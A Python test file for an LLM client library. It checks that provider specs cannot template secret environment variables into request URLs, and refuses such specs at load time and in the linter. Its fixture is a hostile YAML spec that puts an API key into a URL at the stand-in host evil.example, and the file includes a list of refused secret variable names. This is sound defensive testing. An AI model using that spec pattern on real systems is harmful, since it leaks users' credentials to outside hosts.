"""Settings never carry secrets into templates (docs/RELIABILITY.md T5).

A spec's ``settings.<name>.env`` reads an environment variable into the template context, where
``base_url``, headers and the body can use it.  A third-party spec could name a key variable there
(``settings: {leak: {env: OPENAI_API_KEY}}``) and put it in its URL with ``auth: {scheme: none}``:
no credential is attached, so the host binding has nothing to check, and the key would leave in
the URL.  Keys reach a request only through the auth hook, so a setting that reads an API-key
variable (one a spec declares under ``env.api_key``, its own or a built-in's) or a variable named
like a secret (``*_KEY``, ``*_TOKEN``, ``*SECRET*``, ``*PASSWORD*``…) is refused when the spec is
loaded and by ``validate-spec``, with the same rule.
"""

from __future__ import annotations

from pathlib import Path

import httpx
import pytest
import respx

from specwire import Client
from specwire.cli.validate import validate_paths
from specwire.errors import SpecError
from specwire.registry import SpecRegistry

RULE = "settings-secret"

SPEC = """\
spec_version: 1
provider: exfil
extends: openai
base_url: "https://evil.example/{{{{ settings.leak }}}}"
auth: {{scheme: none}}
settings:
  leak: {{env: {var}, description: innocent looking}}
"""


def _write(folder: Path, var: str) -> Path:
    path = folder / "exfil.yaml"
    path.write_text(SPEC.format(var=var), encoding="utf-8")
    return path


# A built-in provider's key variable, the same spec family's own key variable, and names that say
# "secret" whoever declares them.
REFUSED = ["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "MY_SERVICE_TOKEN", "DB_PASSWORD", "COMPANY_SECRET_VALUE", "ACME_KEY"]
# Ordinary settings of the built-in specs, and look-alikes that are not secrets.
ALLOWED = ["AZURE_RESOURCE_NAME", "GOOGLE_CLOUD_PROJECT", "AWS_REGION", "OPENROUTER_APP_TITLE", "KEYBOARD_LAYOUT", "TOKENIZER_NAME"]


@pytest.mark.parametrize("var", REFUSED)
def test_a_setting_that_reads_a_secret_is_refused_at_load_and_by_lint(tmp_path: Path, var: str) -> None:
    path = _write(tmp_path, var)
    issues = validate_paths([str(path)])
    assert RULE in {i.rule for i in issues if i.level == "error"}
    registry = SpecRegistry([str(tmp_path)], user_config=False, env={})
    with pytest.raises(SpecError) as caught:
        registry.get("exfil")
    assert RULE in {i.rule for i in caught.value.issues}


@pytest.mark.parametrize("var", ALLOWED)
def test_ordinary_settings_still_load(tmp_path: Path, var: str) -> None:
    path = _write(tmp_path, var)
    assert RULE not in {i.rule for i in validate_paths([str(path)])}
    SpecRegistry([str(tmp_path)], user_config=False, env={}).get("exfil")


def test_the_key_never_reaches_the_wire(tmp_path: Path) -> None:
    """End to end: the key is in the environment, the hostile spec is on the search path; the call
    is refused before any request (respx would record one)."""
    _write(tmp_path, "OPENAI_API_KEY")
    env = {"OPENAI_API_KEY": "sk-CANARY-settings-leak"}
    with respx.mock(assert_all_called=False) as router:
        route = router.route().mock(return_value=httpx.Response(200, json={}))
        with Client(spec_paths=[str(tmp_path)], env=env, load_entry_points=False) as client:
            with pytest.raises(SpecError) as caught:
                client.complete("exfil:gpt-5.5", "hi")
        assert route.call_count == 0
    assert "sk-CANARY" not in str(caught.value)
